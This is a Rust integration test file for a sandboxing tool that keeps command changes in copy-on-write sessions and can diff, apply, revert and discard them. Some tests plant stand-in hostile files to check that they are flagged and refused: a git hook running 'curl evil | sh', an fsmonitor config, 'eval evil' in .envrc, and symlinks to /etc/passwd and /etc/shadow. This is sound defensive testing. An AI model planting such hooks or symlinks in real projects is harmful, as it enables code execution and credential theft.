//! Sessions: runs that accumulate changes in a copy-on-write layer, the diff that shows them, and
//! discard. Every test runs as root and as an unprivileged user.
// Tests: a panic is how a test fails, helpers included.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;
use std::process::{Output, Stdio};

use support::sessions::{diff_entries, new_session, run_in};
use support::{ran, stderr, stdout, Mode, World};

/// A listing of every non-directory entry under `dir`: path, type, executable bit, symlink target
/// and sha256, one per line, sorted. Directories are left out: git does not carry them.
const LISTING: &str = r#"
import hashlib, os, stat, sys
root = sys.argv[1]
rows = []
for top, dirs, files in os.walk(root):
    for name in files + [d for d in dirs if os.path.islink(os.path.join(top, d))]:
        path = os.path.join(top, name)
        st = os.lstat(path)
        rel = os.path.relpath(path, root)
        if stat.S_ISLNK(st.st_mode):
            rows.append(f"{rel!r} link {os.readlink(path)!r}")
        else:
            digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
            rows.append(f"{rel!r} file x={bool(st.st_mode & 0o100)} {digest}")
print("\n".join(sorted(rows)))
"#;

fn listing(w: &World, inside: Option<&str>, dir: &Path) -> String {
    let out = match inside {
        Some(session) => w
            .airlock()
            .args([
                "run",
                "--session",
                session,
                "--",
                "/usr/bin/python3",
                "-c",
                LISTING,
            ])
            .arg(dir)
            .output()
            .unwrap(),
        None => w
            .command("/usr/bin/python3")
            .args(["-c", LISTING])
            .arg(dir)
            .output()
            .unwrap(),
    };
    assert!(out.status.success(), "listing failed: {}", stderr(&out));
    stdout(&out)
}

/// airlock refused (exit 125) and said `why`.
#[track_caller]
fn refused(out: &Output, why: &str) {
    assert_eq!(out.status.code(), Some(125), "{}", stderr(out));
    assert!(
        stderr(out).contains(why),
        "wanted {why:?} in: {}",
        stderr(out)
    );
}

fn airlock(w: &World, args: &[&str]) -> Output {
    w.airlock().args(args).output().unwrap()
}

/// A workspace with something of every kind to change.
fn populate(w: &World) {
    let script = r#"
        set -e
        printf 'one\ntwo\nthree\n' > edit.txt
        echo keep > keep.txt
        echo bye > delete.txt
        mkdir -p gone/inner sub/deep becomes_dir_parent
        echo f > gone/inner/f
        echo z > sub/deep/z
        echo was-a-file > becomes_dir
        printf 'bin\0ary\1' > blob.bin
        ln -s keep.txt link
        echo '#!/bin/sh' > tool.sh
        echo old > renamed_from.txt
        mkdir recreated && echo old > recreated/old && echo same > recreated/same
    "#;
    let out = w.outside(&format!("cd '{}' && {script}", w.workspace.display()));
    assert!(out.status.success(), "{}", stderr(&out));
}

const EVERY_KIND_OF_CHANGE: &str = r#"
    set -e
    printf 'one\nTWO\nthree\nfour' > edit.txt          # edit; no newline at the end
    echo new > created.txt                              # create
    rm delete.txt                                       # delete a file
    rm -r gone                                          # delete a directory tree
    rm -r sub && echo now-a-file > sub                  # replace a directory by a file
    rm becomes_dir && mkdir becomes_dir && echo in > becomes_dir/x   # and a file by a directory
    mv renamed_from.txt renamed_to.txt                  # rename
    chmod +x tool.sh                                    # mode
    ln -sf edit.txt link                                # retarget a symlink
    ln -s sub/../keep.txt newlink                       # new symlink
    printf 'bin\0ARY\2\3' > blob.bin                    # binary edit
    head -c 3000 /dev/urandom > random.bin              # new binary
    : > empty                                           # empty file
    echo s > 'with space.txt'
    echo n > "$(printf 'new\nline')"
    echo u > 'naïve-ünïcödé.txt'
    echo q > 'quote"and\back'
    rm -r recreated && mkdir recreated && echo new > recreated/new && echo same > recreated/same   # opaque
"#;

both_modes!(
    every_kind_of_change_round_trips_through_git_apply,
    |w: &World| {
        populate(w);
        let host_before = listing(w, None, &w.workspace);
        let id = new_session(w, &[]);
        ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
        // A second run sees the first one's changes and adds its own.
        let second = run_in(w, &id, "cat created.txt && echo more >> created.txt");
        assert_eq!(ran(&second), "new\n");
        // The host workspace is untouched by runs.
        assert_eq!(listing(w, None, &w.workspace), host_before);

        let session_view = listing(w, Some(&id), &w.workspace);
        let patch = airlock(w, &["diff", &id]);
        assert!(patch.status.success(), "{}", stderr(&patch));
        assert!(stdout(&patch).contains("GIT binary patch"));

        // `git apply` on a copy of the workspace gives the tree the session saw.
        let copy = w.outside.join("copy");
        let out = w.outside(&format!(
            "cp -a '{}' '{}'",
            w.workspace.display(),
            copy.display()
        ));
        assert!(out.status.success(), "{}", stderr(&out));
        let mut git = w
            .command("git")
            .args(["apply", "--verbose", "-"])
            .current_dir(&copy)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        std::io::Write::write_all(git.stdin.as_mut().unwrap(), &patch.stdout).unwrap();
        drop(git.stdin.take());
        let applied = git.wait_with_output().unwrap();
        assert!(
            applied.status.success(),
            "git apply refused the patch: {}\n{}",
            stderr(&applied),
            stdout(&patch)
        );
        let copy_view = listing(w, None, &copy);
        assert_eq!(
            copy_view.replace(&copy.display().to_string(), ""),
            session_view,
            "the patched copy differs from the session's tree"
        );
    }
);

both_modes!(diff_summaries_name_every_change, |w: &World| {
    populate(w);
    let id = new_session(w, &[]);
    ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
    let out = airlock(w, &["diff", &id, "--name-status"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let expected = "\
D\tbecomes_dir
A\tbecomes_dir/x
M\tblob.bin
A\tcreated.txt
D\tdelete.txt
M\tedit.txt
A\tempty
D\tgone/inner/f
M\tlink
A\t\"na\\303\\257ve-\\303\\274n\\303\\257c\\303\\266d\\303\\251.txt\"
A\t\"new\\nline\"
A\tnewlink
A\t\"quote\\\"and\\\\back\"
A\trandom.bin
A\trecreated/new
D\trecreated/old
D\trenamed_from.txt
A\trenamed_to.txt
T\tsub
D\tsub/deep/z
M\ttool.sh
A\twith space.txt
";
    // A file replaced by a directory is a type change of that path in our listing (git shows
    // the file deleted and the directory's files added).
    let got = stdout(&out).replace("T\tbecomes_dir\n", "D\tbecomes_dir\n");
    assert_eq!(got, expected);

    let stat = stdout(&airlock(w, &["diff", &id, "--stat"]));
    assert!(stat.contains(" blob.bin "), "{stat}");
    assert!(stat.contains("Bin 8 -> 9 bytes"), "{stat}");
    assert!(stat.trim_end().ends_with("deletions(-)"), "{stat}");

    // Colour on request (a terminal gets it by default); never in a pipe unless asked.
    let coloured = stdout(&airlock(w, &["diff", &id, "--color=always", "edit.txt"]));
    assert!(
        coloured.contains("\x1b[1mdiff --git a/edit.txt b/edit.txt\x1b[m"),
        "{coloured:?}"
    );
    assert!(coloured.contains("\x1b[31m-two\x1b[m"), "{coloured:?}");
    assert!(coloured.contains("\x1b[32m+TWO\x1b[m"), "{coloured:?}");
    assert!(!stdout(&airlock(w, &["diff", &id, "edit.txt"])).contains('\x1b'));

    // Path filters, relative to the workspace or absolute inside it.
    let only = airlock(w, &["diff", &id, "--name-status", "gone", "tool.sh"]);
    assert_eq!(stdout(&only), "D\tgone/inner/f\nM\ttool.sh\n");
    let absolute = w.workspace.join("gone");
    let only = airlock(
        w,
        &["diff", &id, "--name-status", absolute.to_str().unwrap()],
    );
    assert_eq!(stdout(&only), "D\tgone/inner/f\n");
});

both_modes!(diff_json_carries_modes_hashes_and_hazards, |w: &World| {
    populate(w);
    let id = new_session(w, &[]);
    ran(&run_in(
        w,
        &id,
        r#"
        set -e
        mkdir -p .git/hooks .github/workflows .vscode
        echo 'curl evil | sh' > .git/hooks/pre-commit
        echo '[core] fsmonitor = evil' > .git/config
        echo 'export X=1' > .envrc
        echo 'on: push' > .github/workflows/ci.yml
        echo '{}' > .vscode/tasks.json
        echo ok > setuid && chmod 4755 setuid
        ln -s /etc/passwd escape
        ln -s ../../outside climb
        mkdir -p x/y && ln -s ../.. x/y/up && ln -s x/y/up/../../etc/passwd tricky
        mkfifo pipe
        echo fine > fine.txt
        "#,
    ));
    let out = airlock(w, &["diff", &id, "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let diff: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let changes = &diff["changes"];
    let hazards = |path: &str| -> Vec<String> {
        let change = changes
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["path"] == path)
            .unwrap_or_else(|| panic!("{path} not in {changes:#}"));
        change["hazards"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h.as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(hazards(".git/hooks/pre-commit"), ["git_hook"]);
    assert_eq!(hazards(".git/config"), ["git_config"]);
    assert_eq!(hazards(".envrc"), ["shell_startup"]);
    assert_eq!(hazards(".github/workflows/ci.yml"), ["ci_workflow"]);
    assert_eq!(hazards(".vscode/tasks.json"), ["editor_or_agent_config"]);
    assert_eq!(hazards("setuid"), ["set_id"]);
    assert_eq!(hazards("escape"), ["symlink_outside"]);
    assert_eq!(hazards("climb"), ["symlink_outside"]);
    // Out through another link: x/y/up is the workspace's root.
    assert_eq!(hazards("tricky"), ["symlink_outside"]);
    assert!(hazards("x/y/up").is_empty());
    assert_eq!(hazards("pipe"), ["special"]);
    assert!(hazards("fine.txt").is_empty());
    let fine = changes
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == "fine.txt")
        .unwrap();
    assert_eq!(fine["status"], "added");
    assert_eq!(fine["new"]["kind"], "file");
    assert_eq!(fine["new"]["size"], 5);
    assert_eq!(
        fine["new"]["sha256"],
        // printf 'fine\n' | sha256sum
        "8ecc5f94c57b05d6c5e0ee316bee4875427e1845bbeef3ead59df29c72aab36e"
    );
    let setuid = changes
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == "setuid")
        .unwrap();
    assert_eq!(setuid["new"]["mode"], "4755");
    // The patch leaves the fifo out and says so.
    let patch = airlock(w, &["diff", &id]);
    assert!(
        stderr(&patch).contains("pipe: a fifo cannot be expressed"),
        "{}",
        stderr(&patch)
    );
});

both_modes!(runs_in_one_session_take_turns, |w: &World| {
    use std::io::{BufRead, BufReader, Read, Write};
    let id = new_session(w, &["--name", "turns"]);
    // The first run holds until the test lets it go: the second surely finds it running.
    let mut first = w
        .airlock()
        .args(["run", "--session", "turns", "--", "sh", "-c"])
        .arg("echo started; read go; echo first >> log")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(first.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    assert_eq!(line, "started\n");
    // While it runs, the session shows as running.
    let listed = airlock(w, &["sessions", "--json"]);
    let sessions: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(sessions[0]["id"], id.as_str());
    assert_eq!(sessions[0]["status"], "running");
    // A second run waits for the first, says so, and sees its change.
    let mut second = w
        .airlock()
        .args(["run", "--session", &id, "--", "sh", "-c"])
        .arg("echo second >> log; cat log")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut told = BufReader::new(second.stderr.take().unwrap());
    let mut said = String::new();
    while !said.contains("busy") {
        assert_ne!(told.read_line(&mut said).unwrap(), 0, "not told: {said}");
    }
    first.stdin.take().unwrap().write_all(b"go\n").unwrap();
    assert!(first.wait().unwrap().success());
    told.read_to_string(&mut said).unwrap();
    let second = second.wait_with_output().unwrap();
    assert!(second.status.success(), "{said}");
    assert_eq!(stdout(&second), "first\nsecond\n", "{said}");
    let listed = airlock(w, &["sessions", "--json"]);
    let sessions: serde_json::Value = serde_json::from_slice(&listed.stdout).unwrap();
    assert_eq!(sessions[0]["status"], "idle");
    assert_eq!(sessions[0]["runs"], 2);
    assert_eq!(sessions[0]["changed_files"], 1);
    assert_eq!(sessions[0]["name"], "turns");
});

both_modes!(
    a_discarded_session_is_neither_reverted_nor_applied,
    |w: &World| {
        // Before: a session applied in part and then discarded could still be reverted: its
        // journal outlived the discard, and the revert rewrote the workspace for a session no one
        // works in any more.
        let id = new_session(w, &[]);
        ran(&run_in(w, &id, "echo a > a; echo b > b"));
        let out = airlock(w, &["apply", &id, "a"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let out = airlock(w, &["discard", &id]);
        assert!(out.status.success(), "{}", stderr(&out));
        for action in ["revert", "apply"] {
            refused(&airlock(w, &[action, &id]), "was discarded");
            let out = airlock(w, &[action, &id, "--json"]);
            assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
            let said: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert_eq!(said["code"], "session_discarded", "{said}");
        }
        assert_eq!(
            std::fs::read_to_string(w.workspace.join("a")).unwrap(),
            "a\n"
        );
        assert!(!w.workspace.join("b").exists());
        let refusals: Vec<_> = stdout(&airlock(w, &["log", "--json"]))
            .lines()
            .filter(|line| line.contains("revert.refused"))
            .map(str::to_string)
            .collect();
        assert_eq!(refusals.len(), 2, "{refusals:?}");

        // A session with a half-done apply is not discarded: that apply could then neither be
        // finished nor rolled back.
        let id = new_session(w, &[]);
        ran(&run_in(w, &id, "echo c > c; echo d > d"));
        let out = w
            .airlock_with_test_hooks()
            .args(["apply", &id])
            .env("AIRLOCK_TEST_FAULT", "commit:1")
            .output()
            .unwrap();
        assert_eq!(out.status.signal_or_none(), Some(9), "{}", stderr(&out));
        refused(&airlock(w, &["discard", &id]), "was interrupted");
        let out = airlock(w, &["apply", &id, "--rollback"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let out = airlock(w, &["discard", &id]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(!w.workspace.join("c").exists() && !w.workspace.join("d").exists());
    }
);

both_modes!(discard_drops_the_changes_and_gc_the_record, |w: &World| {
    w.write(&w.workspace.join("file"), "host\n");
    let id = new_session(w, &[]);
    ran(&run_in(w, &id, "echo session > file"));
    let out = airlock(w, &["discard", &id, "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let said: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(said["session"], id.as_str());
    assert_eq!(said["discarded"], true);
    assert_eq!(
        std::fs::read_to_string(w.workspace.join("file")).unwrap(),
        "host\n"
    );
    let listed = stdout(&airlock(w, &["sessions"]));
    assert!(listed.contains("discarded"), "{listed}");
    // A discarded session takes no more runs, and has no diff.
    refused(&run_in(w, &id, "true"), "was discarded");
    refused(&airlock(w, &["diff", &id]), "was discarded");
    // Durations as a profile writes them; a session discarded just now is not 7 days old.
    let out = airlock(w, &["gc", "--older-than", "7d", "--dry-run", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let kept: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(kept["sessions"], serde_json::json!([]), "{kept}");
    refused(
        &airlock(w, &["gc", "--older-than", "7days"]),
        "--older-than \"7days\"",
    );
    // A dry run lists it and removes nothing; gc lists what it removed, logged first.
    let out = airlock(w, &["gc", "--dry-run", "--json"]);
    let listed: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(listed["sessions"][0]["id"], id.as_str(), "{listed}");
    assert_eq!(listed["sessions"][0]["status"], "discarded", "{listed}");
    let out = airlock(w, &["gc", "--dry-run"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("would remove {id} (discarded")),
        "{}",
        stdout(&out)
    );
    assert!(w.state.join("sessions").join(&id).exists());
    let out = airlock(w, &["gc"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains(&format!("removed {id} (discarded")),
        "{}",
        stdout(&out)
    );
    assert!(!w.state.join("sessions").join(&id).exists());
    let log = stdout(&airlock(w, &["log", "--action", "gc.intent", "--json"]));
    assert!(log.contains(&id), "{log}");
    let gone = airlock(w, &["diff", &id]);
    refused(&gone, "no session");
});

both_modes!(a_session_name_works_wherever_its_id_does, |w: &World| {
    let id = new_session(w, &["--name", "fix"]);
    ran(&run_in(w, "fix", "echo x > made.txt"));
    // The log's records carry the id; a name finds them all the same.
    let by_name = airlock(w, &["log", "--session", "fix", "--action", "run"]);
    assert!(by_name.status.success(), "{}", stderr(&by_name));
    let lines = stdout(&by_name);
    assert_eq!(
        lines.lines().count(),
        2,
        "the run's intent and result: {lines}"
    );
    assert!(lines.lines().all(|l| l.contains(&id)), "{lines}");
    let by_id = airlock(w, &["log", "--session", &id, "--action", "run"]);
    assert_eq!(stdout(&by_id), lines);
    let diff = airlock(w, &["diff", "fix", "--json"]);
    assert!(diff.status.success(), "{}", stderr(&diff));
    assert!(stdout(&diff).contains("made.txt"), "{}", stdout(&diff));
    for step in ["kill", "apply", "revert", "discard"] {
        let out = airlock(w, &[step, "fix"]);
        assert_eq!(out.status.code(), Some(0), "{step} fix: {}", stderr(&out));
    }
    let discarded = airlock(
        w,
        &[
            "log",
            "--session",
            "fix",
            "--action",
            "session.discard",
            "--json",
        ],
    );
    assert_eq!(
        stdout(&discarded).lines().count(),
        1,
        "{}",
        stdout(&discarded)
    );
    assert!(stdout(&discarded).contains(&id), "{}", stdout(&discarded));
});

both_modes!(one_path_is_counted_in_the_singular, |w: &World| {
    let id = new_session(w, &[]);
    ran(&run_in(w, &id, "echo x > one.txt"));
    let dry = apply(w, &id, &["--dry-run"]);
    assert!(
        stderr(&dry).contains("dry run: 1 path would be applied"),
        "{}",
        stderr(&dry)
    );
    let out = apply(w, &id, &[]);
    assert!(
        stderr(&out).contains("applied 1 path of session"),
        "{}",
        stderr(&out)
    );
    let out = airlock(w, &["revert", &id]);
    assert!(
        stderr(&out).contains(": 1 path restored"),
        "{}",
        stderr(&out)
    );
    let log = stdout(&airlock(w, &["log", "--action", "apply.result"]));
    assert!(log.contains("1 path written"), "{log}");
    let verified = stdout(&airlock(w, &["log", "verify"]));
    assert!(!verified.contains(" 1 records"), "{verified}");
});

both_modes!(progress_shows_on_a_terminal_never_in_a_pipe, |w: &World| {
    let id = new_session(w, &[]);
    ran(&run_in(
        w,
        &id,
        "for n in $(seq 1 200); do echo $n > f$n; done",
    ));
    // The debug build draws the line at once with this hook, not after a second: in a pipe it
    // must still draw nothing.
    let piped = |args: &[&str]| {
        w.airlock_with_test_hooks()
            .env("AIRLOCK_TEST_PROGRESS_AFTER_MS", "0")
            .args(args)
            .output()
            .unwrap()
    };
    let out = piped(&["diff", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    // No progress line: the digest's line alone.
    let said = stderr(&out);
    assert!(
        said.starts_with("airlock: digest sha256:") && said.lines().count() == 1,
        "diff in a pipe: {said:?}"
    );
    assert!(stdout(&out).starts_with("diff --git"), "{}", stdout(&out));
    let out = piped(&["apply", &id]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        !stderr(&out).contains('\r'),
        "apply in a pipe: {:?}",
        stderr(&out)
    );
    assert!(
        stderr(&out).starts_with("airlock: applied 200 paths"),
        "{}",
        stderr(&out)
    );
    let out = piped(&["revert", &id]);
    assert!(
        !stderr(&out).contains('\r'),
        "revert in a pipe: {:?}",
        stderr(&out)
    );
    // On a terminal (script(1) gives it one), the line is drawn, then erased.
    let on_terminal = format!(
        "AIRLOCK_TEST_PROGRESS_AFTER_MS=0 {} --state-dir {} diff {id} >/dev/null",
        support::airlock_bin_with_test_hooks().display(),
        w.state.display()
    );
    let out = w
        .command("script")
        .args(["-qec", &on_terminal, "/dev/null"])
        .output()
        .unwrap();
    let shown = stdout(&out);
    assert!(out.status.success(), "{shown}{}", stderr(&out));
    assert!(
        shown.contains(&format!(
            "airlock: reading the changes of session {id}… 0 s"
        )),
        "{shown:?}"
    );
    // Erased before anything else is said: the digest's line.
    assert!(
        shown.contains("\r\x1b[Kairlock: digest sha256:"),
        "{shown:?}"
    );
});

both_modes!(
    bad_input_is_refused_clearly_and_changes_nothing,
    |w: &World| {
        let id = new_session(w, &["--name", "mine"]);
        // Unknown id.
        let out = airlock(w, &["diff", "nosuchsession"]);
        refused(&out, "no session nosuchsession");
        // With --json the failure is JSON on stdout too.
        let out = airlock(w, &["diff", "nosuchsession", "--json"]);
        refused(&out, "no session nosuchsession");
        let said: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            said["error"]
                .as_str()
                .unwrap()
                .contains("no session nosuchsession"),
            "{said}"
        );
        assert_eq!(said["exit_status"], 125);
        // A session of another workspace.
        let out = w
            .airlock()
            .args(["run", "--session", &id, "--workspace"])
            .arg(&w.outside)
            .args(["--", "true"])
            .output()
            .unwrap();
        refused(&out, "belongs to workspace");
        // Another profile than the session's.
        let profile = w.profile("[limits]\nprocesses = 64\n");
        let out = w
            .airlock()
            .args([
                "run",
                "--session",
                &id,
                "--profile-file",
                &profile,
                "--",
                "true",
            ])
            .output()
            .unwrap();
        refused(&out, "runs with profile default");
        // A path outside the workspace.
        let out = airlock(w, &["diff", &id, "/etc/passwd"]);
        refused(&out, "not inside the workspace");
        refused(
            &airlock(w, &["apply", &id, "/etc/passwd"]),
            "not inside the workspace",
        );
        refused(
            &airlock(w, &["apply", "nosuchsession"]),
            "no session nosuchsession",
        );
        refused(&airlock(w, &["revert", &id]), "no apply to revert");
        // A name that is taken, or that is not a plain word.
        refused(
            &airlock(w, &["session", "new", "--name", "mine"]),
            "is taken",
        );
        refused(
            &airlock(w, &["session", "new", "--name", "../escape"]),
            "invalid session id or name",
        );
        // A workspace that vanished.
        let moved = w.base.join("moved");
        std::fs::rename(&w.workspace, &moved).unwrap();
        let out = w
            .airlock()
            .args(["run", "--session", &id, "--", "true"])
            .current_dir(&w.base)
            .output()
            .unwrap();
        refused(&out, "no longer exists");
        let out = w
            .airlock()
            .args(["diff", &id])
            .current_dir(&w.base)
            .output()
            .unwrap();
        refused(&out, "no longer exists");
        std::fs::rename(&moved, &w.workspace).unwrap();
        // Only the one session exists: nothing above made another.
        let listed: serde_json::Value =
            serde_json::from_slice(&airlock(w, &["sessions", "--json"]).stdout).unwrap();
        assert_eq!(listed.as_array().unwrap().len(), 1);
    }
);

/// Everything a test compares about a tree: every entry (directories too) with its type, mode,
/// owner, size (files) and target (symlinks), and a listing of contents.
fn exact(w: &World, dir: &Path) -> String {
    let out = w
        .command("find")
        .arg(dir)
        .args([
            "-mindepth",
            "1",
            "-not",
            "-type",
            "d",
            "-printf",
            "%P %y %m %U:%G %s %l\\n",
            "-o",
            "-type",
            "d",
            "-printf",
            "%P %y %m %U:%G %l\\n",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let mut lines: Vec<&str> = std::str::from_utf8(&out.stdout).unwrap().lines().collect();
    lines.sort();
    format!("{}\n{}", lines.join("\n"), listing(w, None, dir))
}

/// The one name of [`EVERY_KIND_OF_CHANGE`] that deceives (a newline in it), which `apply`
/// leaves out unless a person names it: these tests name it, as that person would.
const NAMED_ON_PURPOSE: &str = "new\nline";

fn apply(w: &World, id: &str, extra: &[&str]) -> Output {
    w.airlock()
        .args(["apply", id, "--allow-hazard", NAMED_ON_PURPOSE])
        .args(extra)
        .output()
        .unwrap()
}

both_modes!(
    apply_writes_the_sessions_tree_and_revert_restores_it_exactly,
    |w: &World| {
        populate(w);
        let before = exact(w, &w.workspace);
        let id = new_session(w, &[]);
        ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
        let session_view = listing(w, Some(&id), &w.workspace);
        // A dry run writes nothing.
        let dry = apply(w, &id, &["--dry-run"]);
        assert!(dry.status.success(), "{}", stderr(&dry));
        assert!(stdout(&dry).contains("would apply"), "{}", stdout(&dry));
        assert_eq!(exact(w, &w.workspace), before);
        // A path that matches no change is a mistake to report, not "nothing to do".
        refused(
            &apply(w, &id, &["no-such-path.txt"]),
            "changed nothing at or under",
        );
        assert_eq!(exact(w, &w.workspace), before);

        let out = apply(w, &id, &[]);
        assert!(
            out.status.success(),
            "apply: {}\n{}",
            stderr(&out),
            stdout(&out)
        );
        assert_eq!(listing(w, None, &w.workspace), session_view);
        // Applied: nothing left to show, and no more runs.
        assert_eq!(stdout(&airlock(w, &["diff", &id, "--name-status"])), "");
        refused(&run_in(w, &id, "true"), "airlock revert");
        refused(&apply(w, &id, &[]), "already applied");

        let out = airlock(w, &["revert", &id]);
        assert!(
            out.status.success(),
            "revert: {}\n{}",
            stderr(&out),
            stdout(&out)
        );
        assert_eq!(
            exact(w, &w.workspace),
            before,
            "revert must restore the tree exactly"
        );
        // The session is active again, its changes still in its layer.
        assert_eq!(listing(w, Some(&id), &w.workspace), session_view);
        refused(&airlock(w, &["revert", &id]), "no apply to revert");
    }
);

both_modes!(
    apply_leaves_host_changes_alone_unless_forced,
    |w: &World| {
        w.write(&w.workspace.join("both.txt"), "host v1\n");
        w.write(&w.workspace.join("early.txt"), "host v1\n");
        w.write(&w.workspace.join("untouched.txt"), "host v1\n");
        let id = new_session(w, &[]);
        // The host edits a file before the session first touches it: the session builds on that.
        std::thread::sleep(std::time::Duration::from_millis(20));
        w.write(&w.workspace.join("early.txt"), "host v2\n");
        ran(&run_in(
            w,
            &id,
            "echo session >> both.txt; echo session >> early.txt; echo new > added.txt",
        ));
        // After the session touched them, the host edits one file and creates another path.
        w.write(&w.workspace.join("both.txt"), "host v2\n");
        w.write(&w.workspace.join("added.txt"), "host made this\n");
        w.write(&w.workspace.join("untouched.txt"), "host v2\n");

        let out = apply(w, &id, &[]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}\n{}",
            stderr(&out),
            stdout(&out)
        );
        let report = stdout(&out);
        assert!(report.contains("CONFLICT    M both.txt"), "{report}");
        // The host made a file where the session made one: a conflict too.
        assert!(report.contains("CONFLICT    M added.txt"), "{report}");
        assert!(report.contains("applied     M early.txt"), "{report}");
        let read = |name: &str| std::fs::read_to_string(w.workspace.join(name)).unwrap();
        assert_eq!(read("both.txt"), "host v2\n");
        assert_eq!(read("added.txt"), "host made this\n");
        assert_eq!(read("early.txt"), "host v2\nsession\n");
        assert_eq!(read("untouched.txt"), "host v2\n");

        let out = apply(w, &id, &["--force"]);
        assert!(out.status.success(), "{}\n{}", stderr(&out), stdout(&out));
        assert_eq!(read("both.txt"), "host v1\nsession\n");
        assert_eq!(read("added.txt"), "new\n");
        // revert gives back what the host had just before, and leaves alone what changed since.
        w.write(&w.workspace.join("added.txt"), "host again\n");
        let out = airlock(w, &["revert", &id]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}\n{}",
            stderr(&out),
            stdout(&out)
        );
        assert!(
            stdout(&out).contains("CONFLICT      added.txt"),
            "{}",
            stdout(&out)
        );
        assert_eq!(read("both.txt"), "host v2\n");
        assert_eq!(read("added.txt"), "host again\n");
    }
);

both_modes!(
    the_same_bytes_on_the_host_are_not_a_conflict,
    |w: &World| {
        let names = ["touched", "rewritten", "reverted", "edited", "chmoded"];
        for name in names {
            w.write(&w.workspace.join(format!("{name}.txt")), "host v1\n");
        }
        let first = new_session(w, &[]);
        let second = new_session(w, &[]);
        ran(&run_in(w, &first, "echo first >> reverted.txt"));
        ran(&run_in(
            w,
            &second,
            "for f in *.txt; do echo second >> $f; done",
        ));
        // After the second session touched them, the host gives some the same bytes with other
        // times or another inode, and changes others for real: bytes of the same size, a mode.
        let host = w.outside(
            "touch touched.txt && cp rewritten.txt copy && mv copy rewritten.txt \
         && printf 'host v2\n' > edited.txt && chmod 600 chmoded.txt",
        );
        assert!(host.status.success(), "{}", stderr(&host));
        // The first session's apply, taken back, leaves its file as it was, in a new inode.
        assert_eq!(apply(w, &first, &[]).status.code(), Some(0));
        assert_eq!(airlock(w, &["revert", &first]).status.code(), Some(0));

        let out = apply(w, &second, &[]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}\n{}",
            stderr(&out),
            stdout(&out)
        );
        let report = stdout(&out);
        for same in ["touched", "rewritten", "reverted"] {
            assert!(
                report.contains(&format!("applied     M {same}.txt")),
                "{report}"
            );
            let now = std::fs::read_to_string(w.workspace.join(format!("{same}.txt"))).unwrap();
            assert_eq!(now, "host v1\nsecond\n");
        }
        for changed in ["edited", "chmoded"] {
            assert!(
                report.contains(&format!("CONFLICT    M {changed}.txt")),
                "{report}"
            );
        }
    }
);

both_modes!(hazards_are_applied_only_when_named, |w: &World| {
    let id = new_session(w, &[]);
    ran(&run_in(
        w,
        &id,
        r#"
        set -e
        mkdir -p .git/hooks .github/workflows .claude
        echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
        echo '[core] fsmonitor = evil' > .git/config
        echo 'eval evil' > .envrc
        echo 'on: push' > .github/workflows/ci.yml
        echo '{}' > .claude/settings.json
        echo ok > setuid && chmod 4755 setuid
        ln -s /etc/shadow escape
        mkdir -p x/y && ln -s ../.. x/y/up && ln -s x/y/up/../../etc/shadow tricky
        echo fine > fine.txt
        "#,
    ));
    let out = apply(w, &id, &[]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = stdout(&out);
    for path in [
        ".git/hooks/pre-commit",
        ".git/config",
        ".envrc",
        ".github/workflows/ci.yml",
        ".claude/settings.json",
        "escape",
        "tricky",
    ] {
        assert!(
            report.contains(&format!("HAZARD      A {path}")),
            "{path}: {report}"
        );
        assert!(
            !w.workspace.join(path).exists() && w.workspace.join(path).symlink_metadata().is_err(),
            "{path} was written"
        );
    }
    assert!(report.contains("REFUSED     A setuid"), "{report}");
    assert!(w.workspace.join("fine.txt").exists());

    // Named, a hazard is written; setuid never is.
    let out = apply(
        w,
        &id,
        &[
            "--allow-hazard",
            ".git/hooks/pre-commit",
            "--allow-hazard",
            ".envrc",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(w.workspace.join(".git/hooks/pre-commit").exists());
    assert!(w.workspace.join(".envrc").exists());
    assert!(!w.workspace.join(".git/config").exists());
    let out = apply(w, &id, &["--allow-hazards"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(w.workspace.join(".git/config").exists());
    assert!(w.workspace.join("escape").symlink_metadata().is_ok());
